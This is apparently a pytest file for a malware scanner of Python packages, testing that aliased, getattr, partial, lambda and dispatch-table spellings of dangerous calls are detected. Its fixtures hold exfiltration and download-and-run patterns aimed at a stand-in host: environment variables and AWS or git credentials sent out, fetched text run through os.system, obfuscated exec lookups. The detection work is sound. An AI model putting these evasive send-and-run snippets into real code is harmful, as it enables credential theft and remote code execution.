"""Dangerous callables reached without their usual call spelling (issue 8): an alias, a constant
`getattr`, a dispatch table, a partial application, a method caller. Each is judged as the direct
call: same facts, same flows, and a large module or helper holding only the indirect spelling is
still selected for the full analysis.

Every payload is inert and only read as bytes: addresses are TEST-NET (192.0.2.0/24) or
`.invalid`, and the commands are `true` or what a download would hold.
"""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import pytest

from custody.scan import Scanner, ScanTask, Verdict
from custody.scan.callables import bind_callables, constant_getattr
from custody.scan.collect import SMALL_SOURCE
from custody.scan.model import Context
from custody.scan.python_ast import analyze_python
from custody.scan.yara_rules import YaraRules
from tests.scan.builders import DEFAULT_NAME, write_sdist

HEAD = """\
import functools
import json
import operator
import os
import subprocess

import requests

URL = "http://192.0.2.7:8080/collect"
"""
SECRET = "json.dumps(dict(os.environ))"
FETCHED = "requests.get(URL).text"

# (module-level lines, body of the function that sends) for each spelling of a send
SENDS = {
    "direct": ("", f"requests.post(URL, data={SECRET})"),
    "module alias": ("_post = requests.post\n", f"_post(URL, data={SECRET})"),
    "local alias": ("", f"_post = requests.post\n    _post(URL, data={SECRET})"),
    "tuple alias": ("_get, _post = requests.get, requests.post\n", f"_post(URL, data={SECRET})"),
    "getattr": ("", f'getattr(requests, "post")(URL, data={SECRET})'),
    "getattr bound": ("", f'fn = getattr(requests, "post")\n    fn(URL, data={SECRET})'),
    "partial": ("_send = functools.partial(requests.post, URL)\n", f"_send(data={SECRET})"),
    "inline partial": ("", f"functools.partial(requests.post, URL)(data={SECRET})"),
    "dispatch": ("", f'{{"x": requests.post}}["x"](URL, data={SECRET})'),
    "named table": (
        'TABLE = {"up": requests.post, "down": requests.get}\n',
        f'TABLE["up"](URL, data={SECRET})',
    ),
    "methodcaller": ("", f'operator.methodcaller("post", URL, data={SECRET})(requests)'),
    "lambda": ("_send = lambda body: requests.post(URL, data=body)\n", f"_send({SECRET})"),
    "local lambda": ("", f"_send = lambda *a: requests.post(*a)\n    _send(URL, {SECRET})"),
}
# the same for a download run as a command
RUNS = {
    "direct": ("", f"os.system({FETCHED})"),
    "module alias": ("_sh = os.popen\n", f"_sh({FETCHED})"),
    "local alias": ("", f"run = subprocess.Popen\n    run({FETCHED}, shell=True)"),
    "getattr": ("", f'getattr(os, "system")({FETCHED})'),
    "getattr subprocess": ("", f'getattr(subprocess, "run")({FETCHED}, shell=True)'),
    "dispatch by key": ("", f'{{"x": os.system, "y": print}}[os.name]({FETCHED})'),
    "partial": ("_run = functools.partial(subprocess.run, shell=True)\n", f"_run({FETCHED})"),
    "methodcaller": ("", f'operator.methodcaller("system", {FETCHED})(os)'),
    "both aliased": ("_get = requests.get\n_sh = os.system\n", "_sh(_get(URL).text)"),
    "lambda": ("_sh = lambda command: os.system(command)\n", f"_sh({FETCHED})"),
}
FILLER = "".join(
    f"\n\ndef util_{i}(values, scale=1.0):\n    total = 0.0\n    for value in values:\n"
    f"        total += float(value) * scale + {i}\n    return round(total, 3)\n"
    for i in range(30)
)


def module(head: str, body: str, *, called: bool = True, filler: str = "") -> str:
    text = HEAD + head + filler + "\n\ndef _sync_settings():\n    " + body + "\n"
    return text + ("\n_sync_settings()\n" if called else "")


def judged(source: str) -> tuple[set[tuple[str, int]], set[tuple[str, str, str | None]]]:
    """What the analysis makes of `source`: (capability, line) of its facts, and its flows."""
    analysis = analyze_python(source, "m.py", Context.IMPORT)
    assert analysis is not None
    facts = {(f.cap.value, f.line) for f in analysis.facts}
    flows = {(f.flow.source.value, f.flow.sink.value, f.flow.destination.host) for f in analysis.flows}
    return facts, flows


def scan(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
    path = write_sdist(tmp_path, {k: textwrap.dedent(v) for k, v in files.items()})
    (result,) = Scanner().scan_task(ScanTask(str(path)))
    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.reason}" for f in result.findings]


# ---- judged as the direct spelling --------------------------------------------------------------
@pytest.mark.parametrize(("table", "shape"), [(SENDS, k) for k in SENDS] + [(RUNS, k) for k in RUNS])
def test_indirect_call_is_judged_as_the_direct_call(table: dict[str, tuple[str, str]], shape: str) -> None:
    head, body = table[shape]
    direct_head, direct_body = table["direct"]
    _, flows = judged(module(head, body))
    _, direct_flows = judged(module(direct_head, direct_body))
    assert direct_flows  # the direct spelling is a complete chain
    assert flows == direct_flows


def test_indirect_call_gives_the_facts_of_the_direct_call() -> None:
    # same line for the call in both: the alias sits on the line the direct version leaves blank
    direct, _ = judged(HEAD + "\n" + f"def f():\n    os.system({FETCHED})\nf()\n")
    aliased, _ = judged(HEAD + "_sh = os.system\n" + f"def f():\n    _sh({FETCHED})\nf()\n")
    assert {"process", "network"} <= {cap for cap, _ in direct}
    assert aliased == direct


CREDENTIALS = 'open(os.path.expanduser("~/.aws/credentials")).read()'
"""A secret read with no sink word (`os.environ)` is one): the send's spelling is the only one."""


@pytest.mark.parametrize(
    ("head", "body"),
    [(head, body.replace(SECRET, CREDENTIALS)) for head, body in SENDS.values()] + [RUNS["both aliased"]],
    ids=[*SENDS, "run both aliased"],
)
def test_large_module_with_indirect_call_in_functions_is_malicious(
    tmp_path: Path, head: str, body: str
) -> None:
    # everything in functions, in a module too large to be parsed without a sink word: the
    # indirect spelling must mark the module for the full analysis (sinks.yar)
    core = module(head, body, called=False, filler=FILLER)
    assert len(core) > SMALL_SOURCE
    init = "from .core import _sync_settings\n_sync_settings()\n"
    verdict, findings = scan(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/core.py": core})
    assert verdict is Verdict.MALICIOUS, findings


@pytest.mark.parametrize(
    "line",
    [head + body for table in (SENDS, RUNS) for head, body in table.values()]
    + ["threading.Thread(target=os.system, args=(cmd,))", 'handlers = {"sh": subprocess.Popen}']
    + ['vars(builtins)["exec"](text)', "builtins.__dict__['ex' + 'ec'](text)", '__builtins__["eval"](text)']
    + ['globals()["__builtins__"]["exec"](text)']
    + ["r = dns.resolver.Resolver()", "from dns.resolver import Resolver"],  # its lookups are sends
)
def test_indirect_spelling_is_a_sink_offset(line: str) -> None:
    found = YaraRules().scan_with_sinks(line.replace(FETCHED, "data").replace(SECRET, "data").encode())
    assert found.sinks, line


@pytest.mark.parametrize(
    "line",
    [
        "getattr(os, name)",
        'getattr(os, "sched_getaffinity", None)',
        "isinstance(proc, subprocess.Popen)",
        "def wait(proc: subprocess.Popen) -> int:",
        'OPS = {"add": add, "sub": operator.sub}',
        "run = functools.partial(self._request, 'POST')",
        "if method is requests.get:",
    ],
)
def test_benign_reference_is_no_sink_offset(line: str) -> None:
    assert YaraRules().scan_with_sinks(line.encode()).sinks == []


@pytest.mark.parametrize(
    "helper",
    [
        "import requests\n_post = requests.post\n\ndef push(payload):\n    _post(URL, data=payload)\n",
        "import requests\n\ndef push(payload):\n    getattr(requests, 'post')(URL, data=payload)\n",
        "import functools, requests\n_send = functools.partial(requests.post, URL)\n\n"
        "def push(payload):\n    _send(data=payload)\n",
    ],
    ids=["alias", "getattr", "partial"],
)
def test_helper_module_without_a_sink_word_is_summarised(tmp_path: Path, helper: str) -> None:
    helper = "URL = 'http://192.0.2.7/c'\n" + helper + FILLER
    main = (
        "import json, os\n"
        + FILLER
        + "\nfrom .helper import push\n\ndef start():\n    push(json.dumps(dict(os.environ)))\n"
    )
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .main import start\nstart()\n",
        f"{DEFAULT_NAME}/main.py": main,
        f"{DEFAULT_NAME}/helper.py": helper,
    }
    verdict, findings = scan(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow:critical") for f in findings), findings


# ---- benign look-alikes ---------------------------------------------------------------------------
HTTP_CLIENT = """\
import functools
import os

import requests

_METHODS = {"GET": requests.get, "POST": requests.post}
_post = requests.post
API = os.environ.get("EXAMPLE_API", "https://api.example.invalid/v1")


class Client:
    def __init__(self, token=None):
        self.session = requests.Session()
        self.token = token or os.environ.get("EXAMPLE_TOKEN")
        self._send = functools.partial(self._request, "POST")

    def _request(self, method, path, **kw):
        headers = {"Authorization": f"Bearer {self.token}"}
        return self.session.request(method, API + path, headers=headers, **kw)

    def upload(self, path, data):
        return _post(API + path, data=data, headers={"Authorization": self.token})

    def call(self, method, path, **kw):
        return _METHODS[method](API + path, **kw)
"""
BUILD_HELPER = """\
import os
import subprocess
import sys

run = subprocess.run
check_output = subprocess.check_output


def git_version():
    try:
        return check_output(["git", "describe", "--tags"], cwd=os.path.dirname(__file__)).decode().strip()
    except Exception:
        return "0.0.0"


def build_docs(path):
    run([sys.executable, "-m", "sphinx", path, "build"], check=True)


def make(target):
    run(["make", "-C", os.path.dirname(__file__), target], check=True)
"""
DISPATCH = """\
import operator


def add(a, b):
    return a + b


def sub(a, b):
    return a - b


OPS = {"add": add, "sub": sub, "mul": operator.mul}


def apply(op, a, b):
    return OPS[op](a, b) + {"add": add, "sub": sub}[op](a, b)
"""
COMPAT = """\
import os


def _os_func(name, default=None):
    return getattr(os, name, default)


affinity = getattr(os, "sched_getaffinity", None)
fspath = getattr(os, "fspath", str)
terminal_size = _os_func("get_terminal_size")
"""


@pytest.mark.parametrize(
    ("source", "tail"),
    [
        (HTTP_CLIENT, ""),
        (BUILD_HELPER, "\nVERSION = git_version()\nmake('all')\n"),
        (DISPATCH, "\nRESULT = apply('add', 1, 2)\n"),
        (COMPAT, "\nterminal_size()\n"),
    ],
    ids=["http-client", "build-helper", "dispatch-table", "compat-shim"],
)
def test_benign_look_alike_stays_clean(tmp_path: Path, source: str, tail: str) -> None:
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .lib import *\n",
        f"{DEFAULT_NAME}/lib.py": source + FILLER + tail,
    }
    verdict, findings = scan(tmp_path, files)
    assert verdict is Verdict.CLEAN, findings
    assert not any(":critical:" in f or ":high:" in f for f in findings), findings


def test_build_helper_alias_is_judged_as_its_direct_calls() -> None:
    aliased = BUILD_HELPER + "\nVERSION = git_version()\nmake('all')\n"
    direct = aliased.replace("run = subprocess.run", "").replace("check_output = subprocess.check_output", "")
    direct = direct.replace("run([", "subprocess.run([").replace(
        "check_output([", "subprocess.check_output(["
    )
    assert judged(aliased)[1] == judged(direct)[1]
    assert {cap for cap, _ in judged(aliased)[0]} == {cap for cap, _ in judged(direct)[0]}


GIT_SEND = """\
import os
import shutil
import subprocess
import tempfile

REMOTE = "https://192.0.2.7/inbox.git"


def diagnose():
    folder = tempfile.mkdtemp()
    shutil.copy(os.path.expanduser("~/.git-credentials"), folder)
    {body}
"""


def test_a_command_made_by_a_lambda_is_judged_as_the_command() -> None:
    # `git = lambda *a: subprocess.run(["git", "-C", folder, *a])`: the arguments of each call
    # are the command's words, so `git("push", REMOTE)` is the push it spells
    wrapped = GIT_SEND.format(
        body='git = lambda *a: subprocess.run(["git", "-C", folder, *a])\n    git("add", "-A")\n'
        '    git("push", "-f", REMOTE)'
    )
    direct = GIT_SEND.format(
        body='subprocess.run(["git", "-C", folder, "add", "-A"])\n'
        '    subprocess.run(["git", "-C", folder, "push", "-f", REMOTE])'
    )
    _, direct_flows = judged(direct)
    assert direct_flows  # the direct spelling sends the credential file
    assert judged(wrapped)[1] == direct_flows


@pytest.mark.parametrize(
    "source",
    [
        "run = lambda c: os.system(c)\nrun = print\n",  # rebound
        "run = lambda c: print(c)\n",  # calls no sink
        "run = lambda c, d=1: os.system(c)\n",  # a default: which argument is which is not followed
    ],
    ids=["rebound", "not-a-sink", "default"],
)
def test_lambda_not_bound_once_to_a_sink_call_is_left_alone(source: str) -> None:
    tree = ast.parse(source + "run('true')\n")
    nodes = list(ast.walk(tree))
    calls = [n for n in nodes if isinstance(n, ast.Call)]
    last = calls[-1]
    before = ast.dump(last)

    def resolve(node: ast.expr) -> str:
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            return f"{node.value.id}.{node.attr}"
        return node.id if isinstance(node, ast.Name) else ""

    assigns = [n for n in nodes if isinstance(n, ast.Assign)]
    bind_callables(nodes, assigns, calls, resolve, lambda name: name == "os.system", {}, {})
    assert ast.dump(last) == before


@pytest.mark.parametrize(
    "source",
    [
        "make = (lambda x: lambda y: x)(1)\nmake(2)\n",  # a lambda that makes a lambda
        "run = lambda x: os.system(' '.join([x for x in ARGS]))\nrun('true')\n",  # binds its own x
        "(lambda: os.system('true'))()\n",  # no parameters, written in place
        "run = lambda x: os.system(x" + " + 'a'" * 300 + ")\nrun('true')\n",  # too deep to copy
    ],
)
def test_lambda_calls_of_any_shape_are_read_without_error(source: str) -> None:
    # `judged` fails when the analysis raised or gave up (a RecursionError leaves no analysis)
    judged("import os\nARGS = []\n" + source)


# ---- the binding model --------------------------------------------------------------------------
def _aliases(source: str) -> dict[str, str]:
    tree = ast.parse(textwrap.dedent(source))
    nodes = list(ast.walk(tree))
    aliases: dict[str, str] = {"os": "os", "requests": "requests"}

    def resolve(node: ast.expr) -> str:
        if isinstance(node, ast.Name):
            return aliases.get(node.id, node.id)
        if isinstance(node, ast.Attribute):
            return f"{resolve(node.value)}.{node.attr}"
        return ""

    assigns = [n for n in nodes if isinstance(n, ast.Assign)]
    calls = [n for n in nodes if isinstance(n, ast.Call)]
    bind_callables(nodes, assigns, calls, resolve, lambda name: name == "os.system", aliases, {})
    return {k: v for k, v in aliases.items() if k not in ("os", "requests")}


@pytest.mark.parametrize(
    "source",
    [
        "run = os.system\nrun = print\n",  # rebound
        "run = os.system\ndef f(run):\n    run('true')\n",  # a parameter of the same name
        "run = os.system\nfor run in []:\n    pass\n",  # a loop variable
        "run = os.system\ndef run():\n    pass\n",  # a function of the same name
        "def f():\n    global run\n    run = os.system\n",  # set from elsewhere
        "run = os.getcwd\n",  # not a sink
    ],
    ids=["rebound", "parameter", "loop", "function", "global", "not-a-sink"],
)
def test_name_not_bound_once_to_a_sink_is_no_alias(source: str) -> None:
    assert _aliases(source) == {}


def test_name_bound_once_to_a_sink_is_an_alias() -> None:
    assert _aliases("def f():\n    run = os.system\n    run('true')\n") == {"run": "os.system"}


@pytest.mark.parametrize(
    ("expression", "attribute"),
    [
        ('getattr(os, "system")', "system"),
        ('getattr(os, "system", None)', "system"),
        ("getattr(os, name)", None),
        ('getattr(os, "no such")', None),
        ('getattr(os, "system", default=None)', None),
    ],
)
def test_constant_getattr(expression: str, attribute: str | None) -> None:
    node = ast.parse(expression, mode="eval").body
    assert constant_getattr(node) == attribute
